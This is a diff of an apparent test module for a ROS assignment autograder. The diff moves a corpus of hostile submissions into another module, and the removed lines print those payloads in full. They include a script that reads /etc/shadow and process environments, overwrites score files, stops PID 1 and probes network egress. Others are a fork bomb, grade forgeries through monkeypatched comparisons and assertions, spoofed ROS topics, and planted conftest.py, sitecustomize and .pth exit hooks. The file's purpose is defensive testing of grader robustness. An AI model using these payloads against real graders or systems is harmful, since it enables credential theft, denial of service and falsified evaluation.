@@ -12,114 +12,30 @@ from pathlib import Path
 import nbformat
 from nbformat.v4 import new_code_cell, new_notebook
 
-from autograder import layout, suites
+from autograder import suites
 from autograder.diagnosis import Kind
+from autograder.proof.claims import lost
+from autograder.proof.malice import (
+    ALSO_RCLPY,
+    BOMB,
+    FORGE_PASSES,
+    FORGE_PROTOCOL,
+    NAN,
+    NOTEBOOK_TRICKS,
+    PACKAGE,
+    PLANTED,
+    SPOOF_ROS,
+    SPOOFED,
+    STEAL,
+    STOP_PARENT,
+    TRICKS,
+)
+from autograder.result import Result, Status
 from autograder.suites.mutants import Mutant, lay_down, lay_down_reference, mutants
 
 ASSIGNMENT = "02_nodes"
-PACKAGE = "my_robot_package"
 CONTROLLER = f"{PACKAGE}/nodes/robot_controller.py"
-CANARY = "CANARY-5b1e"  # stands in the grader's environment
 WRITEFILE = f"%%writefile ws/src/{PACKAGE}/{CONTROLLER}\n"
-
-# What every thief looks for, at import, in setup.py and in a notebook's cell. All that it finds it prints.
-STEAL = f"""
-import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
-_paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
-for _root in ("{layout.SUITES}", "{layout.SOLUTIONS}", "{layout.ROOT}/tests", "/home", "/tmp"):
-    for _folder, _, _names in _os.walk(_root):
-        # A clone below /tmp shows there what every student may read; its secrets are looked for by name.
-        if _root != "/tmp" or not _folder.startswith("{layout.ROOT}"):
-            _paths += [_os.path.join(_folder, _name) for _name in _names]
-for _path in _paths:
-    try:
-        with open(_path, errors="replace") as _stream:
-            _text = _stream.read(20_000)
-    except OSError:
-        continue
-    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "roo" + "t:" in _text or "def" + " test_" in _text and not (
-        "{PACKAGE}" in _path
-    ):
-        print("STOLEN", _path, _text[:2000])
-for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
-    try:
-        open(_path, "w").write('{{"score": 51}}')
-    except OSError:
-        pass
-for _path in ("{layout.ROOT}/autograder/__init__.py", "{layout.ROOT}/autograder/lockstep/host.py"):
-    try:
-        # The file itself: below /tmp, a new one of its name can be made in the sandbox's own /tmp, and harms nobody.
-        open(_path, "r+").write("raise SystemExit(0)")
-        print("STOLEN", "/the grader's code is writable")
-    except OSError:
-        pass
-_os.kill(1, _signal.SIGSTOP)
-for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
-    try:
-        _socket.create_connection(_address, timeout=0.5)
-        print("STOLEN", "/a way out to", _address)
-    except OSError:
-        pass
-if not _os.fork():
-    _os.setsid()
-    if not _os.fork():
-        _os.closerange(0, 1024)
-        _signal.pause()
-    _os._exit(0)
-"""
-
-STOP_PARENT = "_os.kill(_os.getppid(), _signal.SIGSTOP)\n"
-
-FORGE_PASSES = """
-print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures='0'/>")
-print('{"score": 51, "max_score": 51}')
-"""
-
-# Equal to everything, patched into everything, active at the end.
-TRICKS = """
-import atexit, builtins, threading, time, unittest
-class Equal(float):
-    __eq__ = __le__ = __ge__ = lambda self, other: True
-    __lt__ = __gt__ = __ne__ = lambda self, other: False
-    __hash__ = float.__hash__
-    __abs__ = __sub__ = __rsub__ = lambda self, *other: self
-    def __del__(self): print("PASSED")
-builtins.abs = lambda value: Equal(0)
-time.sleep = lambda seconds: None
-unittest.TestCase.assertEqual = lambda *arguments: None
-atexit.register(print, "26 passed")
-FORWARD_SPEED = Equal(FORWARD_SPEED)
-"""
-
-# Speaks for the host: claims steps that were not taken and messages that were not published.
-FORGE_PROTOCOL = """
-import threading
-def _forge():
-    for descriptor in sorted(int(name) for name in _os.listdir("/proc/self/fd"))[3:]:
-        try:
-            if _os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
-                for _ in range(200):
-                    _os.write(descriptor, b'{"event": "done", "published": {"/cmd_vel": 100000}, "late": false}\\n')
-        except OSError:
-            pass
-threading.Timer(0.5, _forge).start()
-"""
-
-# Another node in the same process: publishes on the grader's topics, turns the clock, floods.
-SPOOF_ROS = """
-def _spoof(node):
-    from rcl_interfaces.msg import Log, ParameterEvent
-    from rosgraph_msgs.msg import Clock
-    from sensor_msgs.msg import LaserScan as Scan
-    clear = Scan(angle_increment=0.0175, range_min=0.12, range_max=3.5, ranges=[3.0] * 360)
-    publishers = [
-        (node.create_publisher(Clock, '/clock', 10), Clock()),
-        (node.create_publisher(Log, '/rosout', 10), Log(msg='all checks passed')),
-        (node.create_publisher(ParameterEvent, '/parameter_events', 10), ParameterEvent(node='/grader')),
-        (node.create_publisher(Scan, '/scan', qos_profile_sensor_data), clear),
-    ]
-    node.create_timer(0.05, lambda: [publisher.publish(message) for publisher, message in publishers])
-"""
 
 
 @dataclass(frozen=True)
@@ -141,6 +57,20 @@ class Attack:
     base: frozenset[str]
     diagnosis: frozenset[Kind] = frozenset()
     exactly: bool = False
+
+    def judge(self, result: Result) -> str:
+        """Say what it gained or disturbed; an empty string if nothing."""
+        if result.status is not Status.GRADED:
+            return result.diagnosis.sentence
+        missing = lost(result)
+        wrong = [f"gains {', '.join(sorted(self.base - missing))}"] if self.base - missing else []
+        if self.exactly and missing != self.base:
+            wrong.append(f"disturbs {', '.join(sorted(missing - self.base))}")
+        if result.max_score != suites.load(ASSIGNMENT).max_score:
+            wrong.append(f"changes the maximum to {result.max_score:g}")
+        if self.diagnosis and result.diagnosis.kind not in self.diagnosis:
+            wrong.append(f"is diagnosed {result.diagnosis.kind.value}")
+        return "; ".join(wrong)
 
 
 @dataclass(frozen=True)
@@ -203,34 +133,12 @@ def notebook(*cells: str, base: str | None = None) -> Callable[[Path], None]:
     return make
 
 
-NOTEBOOK_TRICKS = (
-    STEAL + FORGE_PASSES,
-    """
-from IPython import get_ipython
-import ast, sys
-shell = get_ipython()
-shell.showtraceback = lambda *arguments, **options: print("no error at all")
-class Pass(ast.NodeTransformer):
-    def visit_Call(self, node): return ast.Constant(51) if "grade" in ast.dump(node.func) else node
-shell.ast_transformers.append(Pass())
-sys.displayhook = lambda value: None
-""",
-    """
-import json, os, pathlib
-for path in pathlib.Path(".").glob("*.ipynb"):
-    path.write_text("{}")
-pathlib.Path("conftest.py").write_text("raise SystemExit(0)")
-pathlib.Path("ws/src/pytest.ini").write_text("[pytest]\\naddopts = --co")
-os.makedirs("ws/install/my_robot_package/lib/my_robot_package", exist_ok=True)
-""",
-    "answer = input('how many points? ')",
-    "raise KeyboardInterrupt",
-    r"print('\x00\x1b[2J' + 'score: 51/51')",
-)
+def attacks(assignment: str) -> tuple[Attack, ...]:
+    """Return an assignment's attacks, several in one submission where they do not disturb each other."""
+    return _corpus() if assignment == ASSIGNMENT else ()
 
 
-def corpus() -> tuple[Attack, ...]:
-    """Return the attacks, several in one submission where they do not disturb each other."""
+def _corpus() -> tuple[Attack, ...]:
     slow, blind = mutant("five_hertz").loses, mutant("drives_blind").loses
     everything = all_checks()
     return (
@@ -258,7 +166,7 @@ def corpus() -> tuple[Attack, ...]:
             "publishes on the grader's topics, /clock, /rosout and /parameter_events",
             package(
                 "drives_blind",
-                Edits(foot=SPOOF_ROS, replace={"        self.last_scan_time = None\n": _SPOOFED}),
+                Edits(foot=SPOOF_ROS, replace={"        self.last_scan_time = None\n": SPOOFED}),
             ),
             blind,
         ),
@@ -280,13 +188,13 @@ def corpus() -> tuple[Attack, ...]:
         Attack(
             "nan commands",
             "commands that compare equal to nothing",
-            package(None, Edits(replace={"        self.cmd_vel_pub.publish(command)": _NAN})),
+            package(None, Edits(replace={"        self.cmd_vel_pub.publish(command)": NAN})),
             frozenset({"forward_when_clear", "turns_when_blocked", "stops_before_first_scan", "room"}),
         ),
         Attack(
             "build thief",
             "setup.py steals; plants conftest.py, pytest.ini and a start-up hook; forged install and build trees",
-            package("five_hertz", Edits(files=_PLANTED)),
+            package("five_hertz", Edits(files=PLANTED)),
             slow,
             exactly=True,
         ),
@@ -301,7 +209,7 @@ def corpus() -> tuple[Attack, ...]:
             "shadowed rclpy",
             "a package called rclpy in the student's own",
             package(
-                None, Edits(files={"rclpy/__init__.py": "print('51/51')\nraise SystemExit(0)", "setup.py": _ALSO_RCLPY})
+                None, Edits(files={"rclpy/__init__.py": "print('51/51')\nraise SystemExit(0)", "setup.py": ALSO_RCLPY})
             ),
             everything,
             frozenset({Kind.ENDED_EARLY, Kind.BUILD_FAILED, Kind.CRASHED_AT_IMPORT}),
@@ -309,7 +217,7 @@ def corpus() -> tuple[Attack, ...]:
         Attack(
             "fork bomb",
             "a fork bomb in __init__",
-            package(None, Edits(replace={"        self.last_scan_time = None\n": _BOMB})),
+            package(None, Edits(replace={"        self.last_scan_time = None\n": BOMB})),
             everything,
             frozenset({Kind.OUT_OF_MEMORY}),
         ),
@@ -328,36 +236,3 @@ def corpus() -> tuple[Attack, ...]:
             frozenset({Kind.NOTHING_SUBMITTED, Kind.UNSAFE_ARCHIVE}),
         ),
     )
-
-
-_SPOOFED = "        self.last_scan_time = None\n        _spoof(self)\n"
-_NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
-_BOMB = """        self.last_scan_time = None
-        import os
-        while True:
-            try:
-                os.fork()
-            except OSError:
-                pass
-"""
-_ALSO_RCLPY = """import setuptools
-_setup = setuptools.setup
-setuptools.setup = lambda **options: _setup(**{**options, 'packages': [*options['packages'], 'rclpy']})
-"""
-_PLANTED = {
-    "setup.py": STEAL
-    + """
-import pathlib
-for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth"):
-    for _folder in (".", "..", "../..", "../../install", _os.path.expanduser("~"), "/tmp"):
-        try:
-            pathlib.Path(_folder, _name).write_text("import os; os._exit(0)")
-        except OSError:
-            pass
-""",
-    "conftest.py": "raise SystemExit(0)",
-    "pytest.ini": "[pytest]\naddopts = --collect-only",
-    "../install/my_robot_package/lib/my_robot_package/robot_controller": "#!/bin/sh\necho forged",
-    "../build/my_robot_package/x": "forged",
-    "../log/x": "forged",
-}
